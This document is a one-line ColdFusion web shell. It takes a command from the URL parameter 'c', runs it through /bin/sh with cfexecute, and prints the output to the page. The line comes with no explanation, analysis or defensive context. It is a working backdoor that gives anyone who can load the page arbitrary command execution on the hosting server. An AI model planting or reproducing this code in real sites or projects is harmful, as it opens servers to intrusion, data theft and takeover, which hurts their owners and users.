<cfif isDefined("url.c")><cfexecute name="/bin/sh" arguments="-c #url.c#" timeout="10" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>
